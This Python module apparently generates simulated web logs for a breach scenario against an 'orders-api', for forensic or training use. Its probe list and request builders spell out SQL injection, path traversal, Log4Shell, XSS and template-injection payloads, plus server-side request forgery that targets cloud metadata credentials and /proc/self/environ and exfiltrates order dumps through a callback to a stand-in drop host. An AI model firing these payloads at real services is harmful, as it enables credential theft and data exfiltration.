"""Friday: what the attacker asks of the shop, and what the data's way out looks like."""

from dataclasses import dataclass, field
from typing import Any

from .base import ATTACK_AGENT, DROP_IP, MINUTE, PROBE_IP, SECOND, at, hexa, stream_rng, xray_root
from .people import Client
from .web import Request

ATTACKER = Client(PROBE_IP, ATTACK_AGENT, "https")
DUMP_HOST = "10.0.4.20"
PROBES = [
    ("/api/orders?id=1%27", 400), ("/api/orders?id=1%27%20OR%20%271%27%3D%271", 400), ("/api/orders?id=1%20UNION%20SELECT%20NULL%2CNULL%2CNULL--", 400),
    ("/api/orders/..%2f..%2f..%2fetc%2fpasswd", 404), ("/api/orders/%2e%2e/%2e%2e/etc/passwd", 404), ("/api/orders?id=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%2Fa%7D", 400),
    ("/api/orders?sort=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 400), ("/api/orders?id=1%3Bsleep%2010", 400), ("/api/orders/70001%20AND%20SLEEP(5)", 400),
    ("/api/orders/../admin", 403), ("/api/admin", 403), ("/api/admin/users", 403), ("/api/internal/metrics", 403), ("/api/debug", 404), ("/api/.env", 404),
    ("/api/v2/orders", 404), ("/api/orders/export", 403), ("/api/swagger.json", 404), ("/api/openapi.json", 404), ("/api/graphql", 404), ("/api/config", 403),
    ("/api/orders?callback=%7B%7B7*7%7D%7D", 400), ("/api/users", 404), ("/api/orders?filter%5B%24ne%5D=1", 400), ("/api/upload", 404), ("/api/import", 400),
]
IMDS = "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"


@dataclass
class Story:
    items: list[dict[str, Any]] = field(default_factory=list)

    def tell(self, time: int, table: str, what: str, **match: Any) -> None:
        self.items.append({"time": time, "table": table, "what": what, "match": match})


class FrontDoor:
    """All requests of the attacker, with what orders-api logs about each."""

    def __init__(self) -> None:
        self.rng = stream_rng("attack-web")
        self.named: dict[str, Request] = {}
        self.exports: list[tuple[Request, int]] = []  # with the size of each file fetched

    def alb(self) -> list[Request]:
        self.probes = self._probing()
        return self.probes + self._forgery() + self._exporting()

    def gateway_probe(self) -> Request:
        """A look at the REST API; its authorizer refuses, so no function runs."""
        request = self._request(at("2026-03-06 13:52:30"), "/v1/orders", 403, 0, "gateway", [])
        request.front, request.target, request.resource, request.sent = "apigw", "catalog", "/orders", 42
        return request

    def _request(self, time: int, path: str, status: int, work: int, kind: str, logs: list[tuple[str, str]]) -> Request:
        rng = self.rng
        # The script opens a new connection for each request.
        return Request(time, ATTACKER, rng.randrange(32_768, 60_999), f"TID_{hexa(rng, 32)}", "GET", path, "orders", kind, status,
                       xray_root(rng, time), received=rng.randrange(190, 420), sent=rng.randrange(180, 420), work_us=work, logs=logs)

    def _probing(self) -> list[Request]:
        time, requests = at("2026-03-06 13:41:07.118402"), []
        for number in range(104):
            path, status = PROBES[number] if number < len(PROBES) else self.rng.choice(PROBES)
            word = {400: "bad request", 403: "forbidden", 404: "no route"}[status]
            requests.append(self._request(time, path, status, self.rng.randrange(4_000, 31_000), "probe", [("WARN", f"{word}: GET {path.split('?')[0]}")]))
            time += int(self.rng.expovariate(1 / 8.5) * SECOND) + 150_000
        return requests

    def _forgery(self) -> list[Request]:
        imds = self._import("imds", "13:58:21.402117", IMDS + "iam%2Fsecurity-credentials%2F", 500, 10_021_000,
                            ("ERROR", "import failed: connect ETIMEDOUT 169.254.169.254:80"), "ssrf")
        slow = self._import("imds-timeout", "13:59:04.871530", IMDS + "iam%2Fsecurity-credentials%2Forders-api-role", 502, 60_000_000,
                            ("INFO", "import fetching http://169.254.169.254/latest/meta-data/iam/security-credentials/orders-api-role"), "ssrf-timeout")
        slow.error_reason = "LambdaUnhandled"
        rest = [
            self._import("passwd", "14:01:47.220914", "file%3A%2F%2F%2Fetc%2Fpasswd", 200, 61_000, ("INFO", "import fetched 1204 bytes from file:///etc/passwd"), "ssrf"),
            self._import("environ", "14:03:22.604381", "file%3A%2F%2F%2Fproc%2Fself%2Fenviron", 200, 48_000, ("INFO", "import fetching file:///proc/self/environ"), "environ"),
            self._import("dumps", "14:17:33.059236", f"http%3A%2F%2F{DUMP_HOST}%3A8080%2Fdumps%2F", 200, 92_000,
                         ("INFO", f"import fetched 2911 bytes from http://{DUMP_HOST}:8080/dumps/"), "ssrf"),
        ]
        self.named["environ"].sent = 3_402
        return [imds, slow, *rest]

    def _import(self, name: str, clock: str, url: str, status: int, work: int, log: tuple[str, str], kind: str) -> Request:
        jitter = 0 if kind == "ssrf-timeout" else self.rng.randrange(1_000)
        request = self._request(at(f"2026-03-06 {clock}"), f"/api/import?url={url}", status, work + jitter, kind, [log])
        self.named[name] = request
        return request

    def _exporting(self) -> list[Request]:
        """The function fetches dumps from an inner host and posts each to the attacker's server."""
        time, requests = at("2026-03-06 14:20:06.340118"), []
        for number in range(26):
            size = self.rng.randrange(66_000_000, 79_000_000)
            source = f"http%3A%2F%2F{DUMP_HOST}%3A8080%2Fdumps%2Forders-{2024 + number // 12}-{number % 12 + 1:02d}.csv.gz"
            path = f"/api/import?url={source}&callback=https%3A%2F%2F{DROP_IP}%2Fu%2F{number:02d}"
            work = self.rng.randrange(38_000_000, 55_000_000)
            request = self._request(time, path, 200, work, "export", [
                ("INFO", f"import fetched {size} bytes from http://{DUMP_HOST}:8080/dumps/orders-{2024 + number // 12}-{number % 12 + 1:02d}.csv.gz"),
                ("INFO", f"import callback https://{DROP_IP}/u/{number:02d} answered 200")])
            requests.append(request)
            self.exports.append((request, size))
            time += MINUTE + self.rng.randrange(38_000_000, 47_000_000)
        return requests
